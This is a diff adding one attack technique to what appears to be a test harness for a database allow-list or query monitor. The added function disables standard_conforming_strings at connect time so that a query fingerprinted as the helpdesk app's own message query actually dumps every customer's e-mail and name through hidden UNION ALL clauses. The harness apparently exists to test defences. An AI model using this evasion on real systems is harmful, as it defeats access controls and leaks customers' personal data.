@@ -2084,6 +2084,22 @@ def t_honest_sjis_client(ctx: Ctx) -> None:
             )
 
 
+@technique("rows")
+def t_scs_off_allowlisted_shape(ctx: Ctx) -> None:
+    """standard_conforming_strings=off in the startup packet, and a statement that, read with
+    the default, is the helpdesk application's own message-list query (its fingerprint is on
+    the allow-list): the rest hides in a block comment that begins inside what the server
+    reads as a string literal. The server runs a UNION ALL of every customer's e-mail and name
+    packed into two rows, the trailing ORDER BY being a line comment to it."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    agg = "string_agg(\"Email\" || ' ' || \"FullName\", ',')"
+    ctx.q(c, "SELECT m.author, m.body, m.sent_at FROM ticket_messages m JOIN \"Tickets\" t "
+             "ON t.ticket_id = m.ticket_id WHERE t.\"TicketNo\" = 'A\\' /* ' "
+             f"UNION ALL SELECT 'x', {agg}, now() FROM customers WHERE customer_id BETWEEN 1 AND 1650 "
+             f"UNION ALL SELECT 'y', {agg}, now() FROM customers WHERE customer_id > 1650 "
+             "-- */ ORDER BY m.sent_at")  # fmt: skip
+
+
 # --- the honest agent ------------------------------------------------------------------------
 
 
